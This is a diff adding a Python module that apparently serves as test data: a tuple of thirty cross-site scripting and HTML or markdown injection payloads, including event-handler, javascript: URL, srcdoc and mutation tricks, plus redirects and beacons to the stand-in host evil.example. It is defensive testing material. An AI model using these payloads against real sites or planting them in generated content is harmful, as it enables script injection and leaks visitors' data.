@@ -1,0 +1,36 @@
+"""Thirty texts that run a script, or leave the page, where a page takes text for HTML."""
+
+from __future__ import annotations
+
+PAYLOADS = (
+    "<script>window.hit=1</script>",
+    "<ScRiPt>window.hit=1</sCrIpT>",
+    "<img src=x onerror=window.hit=1>",
+    "<img src=x onerror='window.hit=1'//",
+    "<svg onload=window.hit=1>",
+    "<svg><script>window.hit=1</script></svg>",
+    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
+    "<body onload=window.hit=1>",
+    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
+    "<iframe src='javascript:parent.hit=1'></iframe>",
+    "<details open ontoggle=window.hit=1>x</details>",
+    "<input autofocus onfocus=window.hit=1>",
+    "<video><source onerror=window.hit=1></video>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
+    "<a href='javascript:window.hit=1'>press</a>",
+    "<form action='javascript:window.hit=1'><button>press</button></form>",
+    "<object data='javascript:window.hit=1'></object>",
+    "<embed src='javascript:window.hit=1'>",
+    "<base href='https://evil.example/'>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<link rel=stylesheet href='https://evil.example/x.css'>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "[press](javascript:window.hit=1)",
+    "[press](JaVaScRiPt:window.hit=1)",
+    "[press](data:text/html,<script>parent.hit=1</script>)",
+    "[press](vbscript:window.hit=1)",
+    "![x](https://evil.example/beacon.png)",
+    "<javascript:window.hit=1>",
+    "```html\n</code></pre><script>window.hit=1</script>\n```",
+    "| a |\n|:-:|\n| <img src=x onerror=window.hit=1> |\n\n`</code><script>window.hit=1</script>`",
+)
